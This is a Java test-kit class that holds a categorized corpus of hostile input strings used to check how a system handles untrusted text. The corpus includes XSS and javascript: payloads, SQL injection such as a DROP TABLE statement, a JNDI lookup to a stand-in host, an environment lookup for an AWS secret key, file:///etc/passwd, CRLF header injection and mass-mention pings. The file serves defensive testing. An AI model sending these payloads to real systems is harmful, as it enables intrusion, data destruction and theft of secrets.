package dev.incidentkit.testkit;

import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Set;

/**
 * A corpus of hostile text, to put in every text field an integrator's tool fills, every template and every
 * store: what an attacker, a careless paste or a broken client sends. Each string is in one
 * {@link Category}; {@link #corpus()} is every string once, in a fixed order.
 *
 * <p>A system that takes text from people passes this corpus when, for every string, it either refuses the
 * text with a clear rejection or keeps it exactly (no loss, no change), and every place it shows the text
 * shows it as text: no live mention, link, tag, template tag, header or SQL.
 *
 * <p>The strings are written here, not generated, so a failure names a string a person can read; some
 * hold NUL and unpaired surrogates, which no UTF-8 file could.
 *
 * @since 0.1.0
 */
public final class HostileText {

    /**
     * What a string attacks.
     */
    public enum Category {
        /** Markdown syntax: links, images, headings, tables, code, emphasis, HTML inside Markdown. */
        MARKDOWN,
        /** Slack mrkdwn: control sequences in angle brackets, emphasis, quotes. */
        SLACK,
        /** HTML: tags, attributes, entities, comments, scripts. */
        HTML,
        /** Mass and personal mentions of the chat tools teams use. */
        MENTIONS,
        /** Template syntax of Mustache and other engines, format strings, lookups. */
        TEMPLATE_SYNTAX,
        /** Bidirectional controls and invisible characters, in and beyond the basic plane. */
        BIDI_AND_INVISIBLE,
        /** NUL, other control characters and unpaired surrogates. */
        CONTROL_AND_SURROGATES,
        /** Very long text and very long URLs. */
        LONG,
        /** URLs that run code or reach somewhere unexpected. */
        DANGEROUS_URLS,
        /** Line breaks meant to add headers to a request or lines to a log. */
        HEADER_INJECTION,
        /** SQL metacharacters and statements. */
        SQL,
        /** Text that is merely unusual: empty, blank, quotes, emoji, other scripts. */
        UNUSUAL
    }

    private static final Map<Category, List<String>> CORPUS = build();

    private HostileText() {}

    /**
     * Every string of the corpus once, in a fixed order (by category, then as written).
     *
     * @return the strings; at least 200
     */
    public static List<String> corpus() {
        Set<String> all = new LinkedHashSet<>();
        for (List<String> strings : CORPUS.values()) {
            all.addAll(strings);
        }
        return List.copyOf(all);
    }

    /**
     * The strings of one category, in the order written.
     *
     * @param category the category
     * @return its strings; never empty
     */
    public static List<String> of(Category category) {
        return CORPUS.get(Objects.requireNonNull(category, "category"));
    }

    /**
     * The category a string of the corpus was written in (the first, should two share it).
     *
     * @param text a string of the corpus
     * @return its category
     * @throws IllegalArgumentException if the string is not in the corpus
     */
    public static Category categoryOf(String text) {
        Objects.requireNonNull(text, "text");
        for (Map.Entry<Category, List<String>> entry : CORPUS.entrySet()) {
            if (entry.getValue().contains(text)) {
                return entry.getKey();
            }
        }
        throw new IllegalArgumentException("not a string of the corpus");
    }

    /**
     * A short, printable name for a string of the corpus, for a failure's message: its category, its index
     * and its first characters with everything outside printable ASCII escaped.
     *
     * @param text any text
     * @return the name
     */
    public static String describe(String text) {
        Objects.requireNonNull(text, "text");
        StringBuilder shown = new StringBuilder();
        for (int i = 0; i < text.length() && shown.length() < 60; i++) {
            char c = text.charAt(i);
            shown.append(c >= 0x20 && c < 0x7f ? String.valueOf(c) : String.format("\\u%04X", (int) c));
        }
        int index = corpus().indexOf(text);
        String where = index < 0 ? "not in the corpus" : categoryOf(text) + " #" + index;
        return where + " (" + text.length() + " chars) \"" + shown + (text.length() > 60 ? "...\"" : "\"");
    }

    private static Map<Category, List<String>> build() {
        Map<Category, List<String>> corpus = new LinkedHashMap<>();
        corpus.put(Category.MARKDOWN, List.of(
                "[click here](https://evil.example/login)",
                "![pixel](https://evil.example/track.png)",
                "[ref]: https://evil.example \"title\"",
                "<https://evil.example>",
                "# Heading injected",
                "line\n# heading on its own line",
                "| a | b |\n|---|---|\n| c | d |",
                "cell | breaks | a table",
                "```\ncode fence never closed",
                "`inline code` and ``double``",
                "**bold** __bold__ *em* _em_ ~~strike~~",
                "> quoted\n>> nested",
                "- item\n* item\n+ item\n1. item",
                "---\n***\n___",
                "\\*escaped\\* and \\\\ double backslash",
                "<details><summary>x</summary>hidden</details>",
                "[x](javascript:alert(1))",
                "[x]( https://evil.example )",
                "footnote[^1]\n\n[^1]: https://evil.example",
                "autolink www.evil.example and https://evil.example/a_b_c",
                "a\\\nhard break",
                "&lt;not a tag&gt; &amp;amp;",
                "Setext\n===",
                "    indented code block"));
        corpus.put(Category.SLACK, List.of(
                "<https://evil.example|Click to verify>",
                "<mailto:ceo@evil.example|ceo>",
                "<#C024BE91L|general>",
                "<!date^1392734382^{date}|Feb 18>",
                "<!subteam^SAZ94GDB8|@oncall>",
                "*bold* _italic_ ~strike~ `code`",
                "&gt; quote &lt; &amp;",
                ":skull: :rotating_light: :+1:",
                "<tel:+15555550100|call me>",
                "<https://evil.example>",
                "text with a > in it and a < too",
                "```multi\nline```"));
        corpus.put(Category.HTML, List.of(
                "<script>alert('x')</script>",
                "</script><script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)>",
                "\"><a href=\"https://evil.example\">x</a>",
                "'><iframe src=//evil.example></iframe>",
                "<style>body{display:none}</style>",
                "<!-- comment --> visible",
                "<a href='javascript:alert(1)'>x</a>",
                "&#60;script&#62; &#x3C; &lt;",
                "<body onload=alert(1)>",
                "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
                "<form action=https://evil.example><input name=p></form>",
                "<b>bold</b><i>it</i><u>u</u>",
                "<textarea></textarea><script>x</script>",
                "<![CDATA[ x ]]>",
                "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
                "< script>not a tag?</ script>"));
        corpus.put(Category.MENTIONS, List.of(
                "<!channel>", "<!here>", "<!everyone>", "<!channel|channel>", "<!here|here>",
                "@channel", "@here", "@everyone", "@all", "@Channel @HERE @EveryOne",
                "<@U024BE7LH>", "<@W123|someone>", "<@&123456789012345678>", "<@123456789012345678>",
                "<@!123456789012345678>", "@room", "<users/all>", "@**all**", "@**everyone**", "@*stream*",
                "<at>General</at>", "@team @oncall @security", "ping @everyone now", "@everyone\u200B",
                "\uFF20everyone", "email@here.example and a@all.example"));
        corpus.put(Category.TEMPLATE_SYNTAX, List.of(
                "{{title}}", "{{{title}}}", "{{&title}}", "{{#timeline}}x{{/timeline}}", "{{^x}}y{{/x}}",
                "{{=<% %>=}}<%title%>", "{{> partial}}", "{{! comment }}", "{{", "}}", "{{{", "{{ unclosed",
                "{% for x in y %}{{ x }}{% endfor %}", "${title}", "${jndi:ldap://evil.example/a}",
                "${env:AWS_SECRET_ACCESS_KEY}", "#{7*7}", "<%= 7*7 %>", "${7*7}", "$!{x}", "%s %d %n %x %%",
                "%(title)s", "{0} {1}", "@{title}", "[[${title}]]"));
        corpus.put(Category.BIDI_AND_INVISIBLE, List.of(
                "\u202Eevil.exe\u202Ctxt", "\u202Dleft\u202C", "\u2066isolate\u2069", "\u2067rtl\u2069",
                "\u2068first\u2069", "mark\u200E and \u200F", "\u061Carabic mark", "zero\u200Bwidth",
                "joiner\u200Dnon\u200Cjoiner", "word\u2060joiner", "BOM\uFEFFinside", "soft\u00ADhyphen",
                "invisible\u2062times\u2063sep\u2064plus", "mongolian\u180Evowel", "interlinear\uFFF9a\uFFFAb\uFFFB",
                "tag \uDB40\uDC01\uDB40\uDC41\uDB40\uDC7F characters", "flag tag \uD83C\uDFF4\uDB40\uDC67\uDB40\uDC62\uDB40\uDC7F",
                "shorthand\uD82F\uDCA0format", "music\uD834\uDD73format", "variation\uDB40\uDD00selector",
                "\u200B", "\u202E", "\uDB40\uDC01", "hangul\u3164filler", "braille\u2800blank"));
        corpus.put(Category.CONTROL_AND_SURROGATES, List.of(
                "\u0000", "nul\u0000inside", "bell\u0007", "back\u0008space", "escape\u001B[31mred\u001B[0m",
                "vertical\u000Btab", "form\u000Cfeed", "unit\u001Fsep", "delete\u007F", "next\u0085line",
                "c1\u0090\u009F", "\uD800", "\uDFFF", "lone \uD800 high", "lone \uDC00 low", "reversed \uDC00\uD800",
                "high at end \uD83D", "\uDBFF\uDBFF", "line\u2028separator", "paragraph\u2029separator",
                "carriage\rreturn only", "tab\tand\tnewline\n"));
        corpus.put(Category.LONG, List.of(
                "x".repeat(200), "x".repeat(201), "y".repeat(10_000), "y".repeat(10_001), "z".repeat(100_000),
                "word ".repeat(3_000), "https://example.org/" + "a".repeat(2_028),
                "https://example.org/" + "a".repeat(2_029), "https://example.org/?" + "q=1&".repeat(20_000),
                "\uD83D\uDD25".repeat(5_000), "\n".repeat(1_000), "line\n".repeat(2_500)));
        corpus.put(Category.DANGEROUS_URLS, List.of(
                "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)",
                "javascript&#58;alert(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                "data:image/svg+xml,<svg onload=alert(1)>", "vbscript:msgbox(1)", "file:///etc/passwd",
                "//evil.example/path", "\\\\evil.example\\share", "https://evil.example@good.example/",
                "https://good.example.evil.example/", "https://xn--80ak6aa92e.com/", "http://127.0.0.1:8080/admin",
                "https://example.org/a b", "https://example.org/\u202Eexe", "ftp://evil.example/x",
                "https://example.org/<script>", "https://example.org/\"onmouseover=\"alert(1)"));
        corpus.put(Category.HEADER_INJECTION, List.of(
                "value\r\nX-Injected: 1", "value\nX-Injected: 1", "value\r\n\r\n<html>body</html>",
                "%0d%0aSet-Cookie:%20a=b", "value\rX-Injected: 1", "\r\nHTTP/1.1 200 OK\r\n",
                "Bearer abc\r\nAuthorization: Bearer evil", "log line\n2026-01-01 INFO forged entry",
                "name\u0085X-Injected: 1"));
        corpus.put(Category.SQL, List.of(
                "'; DROP TABLE ik_event; --", "' OR '1'='1", "\" OR \"\"=\"", "1; SELECT pg_sleep(10)",
                "admin'--", "\\'; --", "$$; select 1; $$", "E'\\x00'", "/* comment */ select", "%_% like wildcards",
                "') ON CONFLICT DO NOTHING; --", "'||(select version())||'", "\u02BC OR 1=1 --", "null", "NULL",
                "\\N"));
        corpus.put(Category.UNUSUAL, List.of(
                "", " ", "   ", "\t", "\n", "\"quoted\" and 'single' and `back`", "emoji \uD83D\uDD25\uD83D\uDE92",
                "family \uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67 and \uD83D\uDC4D\uD83C\uDFFD",
                "\u05E9\u05DC\u05D5\u05DD \u05E2\u05D5\u05DC\u05DD", "\u0645\u0631\u062D\u0628\u0627",
                "\u65E5\u672C\u8A9E\u306E\u30C6\u30AD\u30B9\u30C8", "e\u0301 versus \u00E9", "\uFB01 ligature",
                "\uD835\uDD44\uD835\uDD52\uD835\uDD65\uD835\uDD59", "Z\u0351\u0352\u0353a\u0354\u0355l\u0356g\u0357o",
                "INC-7", "null", "undefined", "true", "-1", "0x41", "\u00A0non-breaking\u00A0space",
                "\u3000ideographic space", "trailing space "));
        Map<Category, List<String>> frozen = new LinkedHashMap<>();
        corpus.forEach((category, strings) -> frozen.put(category, Collections.unmodifiableList(
                new ArrayList<>(strings))));
        return Collections.unmodifiableMap(frozen);
    }
}
